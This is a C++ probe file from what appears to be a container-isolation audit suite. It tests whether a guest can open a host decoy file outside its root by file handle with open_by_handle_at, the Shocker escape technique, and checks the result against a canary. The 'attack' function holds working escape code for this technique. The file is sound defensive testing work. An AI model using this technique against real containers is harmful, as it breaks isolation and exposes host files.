// F06: open_by_handle_at(2) opens a file by its number on the file system, whatever the root is (the Shocker technique of
// 2014). The host hands over the handle of a decoy outside the root; a real attacker would guess it.
#include <fcntl.h>
#include <unistd.h>

#include <charconv>
#include <cstring>
#include <fstream>

#include "audit/guest/share.h"
#include "audit/guest/tools.h"
#include "audit/probe.h"

namespace bulkhead::audit {
namespace {

struct Handle {
  file_handle head;
  unsigned char bytes[MAX_HANDLE_SZ];
};

std::string to_hex(const void* data, size_t size) {
  constexpr char digits[] = "0123456789abcdef";
  std::string text;
  for (size_t i = 0; i < size; ++i) {
    const unsigned char byte = static_cast<const unsigned char*>(data)[i];
    text += digits[byte >> 4];
    text += digits[byte & 15];
  }
  return text;
}

unsigned char byte_of(const std::string& two_digits) {
  unsigned value = 0;
  std::from_chars(two_digits.data(), two_digits.data() + two_digits.size(), value, 16);
  return static_cast<unsigned char>(value);
}

Answer attack(const Words& words) {
  Handle handle{};
  const std::string& hex = words.at(1);
  handle.head.handle_bytes = static_cast<unsigned>(hex.size() / 2);
  handle.head.handle_type = guest::number(words.at(0));
  for (size_t i = 0; i < hex.size() / 2; ++i) handle.bytes[i] = byte_of(hex.substr(2 * i, 2));
  int last = ENOENT;
  for (const std::string& place : {guest::share_directory, std::string("/"), std::string("/usr")}) {
    const int mount = ::open(place.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mount < 0) continue;
    const int fd = ::open_by_handle_at(mount, &handle.head, O_RDONLY | O_CLOEXEC);
    last = errno;
    ::close(mount);
    if (fd < 0) continue;
    char text[256];
    const ssize_t count = ::read(fd, text, sizeof text);
    ::close(fd);
    return done(std::string(text, count > 0 ? static_cast<size_t>(count) : 0));
  }
  errno = last;
  return failed(guest::blame("open_by_handle_at(decoy)", 2));
}

Judgement run(Trial& trial) {
  const std::string decoy = trial.host_scratch() + "/decoy";
  std::ofstream(decoy) << trial.canary();
  Handle handle{};
  handle.head.handle_bytes = MAX_HANDLE_SZ;
  int mount_id = 0;
  if (::name_to_handle_at(AT_FDCWD, decoy.c_str(), &handle.head, &mount_id, 0) < 0) {
    ::unlink(decoy.c_str());
    return inconclusive("the host's file system gives no file handles");
  }
  const Answer answer = trial.attacker(
      "attack", {std::to_string(handle.head.handle_type), to_hex(handle.bytes, handle.head.handle_bytes)});
  ::unlink(decoy.c_str());
  if (answer.ok && answer.text == trial.canary()) return reached("opened a file outside the root by its handle");
  return answer.ok ? inconclusive("the attacker returned another text") : stopped(answer);
}

}  // namespace

extern const Probe f06_file_handle;
const Probe f06_file_handle{.id = "F06",
                            .name = "file handle",
                            .requirement = Requirement::filesystem,
                            .goals = {AttackGoal::compromise},
                            .channel = Channel::storage,
                            .tries = "opens a file outside its root by file handle",
                            .reaching = "every file of the shared file system is the attacker's",
                            .observer = "attacker returns a canary of the host",
                            .covers = {"privilege/capabilities", "privilege/seccomp", "processes/user-namespace"},
                            .parts = {{"attack", attack}},
                            .run = run};

}  // namespace bulkhead::audit
